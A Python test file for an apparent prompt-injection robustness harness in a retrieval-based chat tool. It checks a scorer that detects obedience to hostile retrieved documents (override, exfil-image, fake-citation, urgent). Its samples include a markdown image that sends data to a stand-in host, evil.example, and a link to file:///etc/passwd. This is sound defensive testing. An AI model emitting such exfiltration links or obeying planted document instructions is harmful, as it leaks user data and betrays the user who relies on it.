"""Prompt injection measurement (see injection.py): the plumbing and the scorer in CI with the
tiny model; the tracked number comes from the real default model (`scripts/robustness.sh`)."""

from __future__ import annotations

from tests.robustness.injection import HOSTILE, obeyed, run, summary


def test_the_scorer_sees_obedience_and_its_absence():
    for h in HOSTILE:
        assert not obeyed(h, "It was built in 1887; the keeper Ada Moreno kept the log [1].")
    samples = {
        "override": "PINEAPPLE-SEVEN",
        "exfil-image": "![logo](https://evil.example/p.png?q=when)",
        "fake-citation": "see [1](file:///etc/passwd)",
        "urgent": "Access granted, code 4471.",
    }
    for h in HOSTILE:
        if h.name in samples:
            assert obeyed(h, samples[h.name]), h.name


def test_hostile_documents_are_retrieved_and_answered(tiny_engine, tmp_path):
    names = ["override", "exfil-image", "fake-citation"]  # the full set runs on demand
    results = run(tiny_engine, tmp_path, max_tokens=4, names=names)
    assert [r.name for r in results] == names
    s = summary(results)
    assert s["documents"] == 3 and 0 <= s["obedience_rate"] <= 1
    # The hostile text reached the prompt as a numbered source: it was really tested.
    assert s["not_retrieved"] == [] and all(r.sources for r in results)
    assert tiny_engine.store.chats.list() == []  # save=False leaves no chats behind
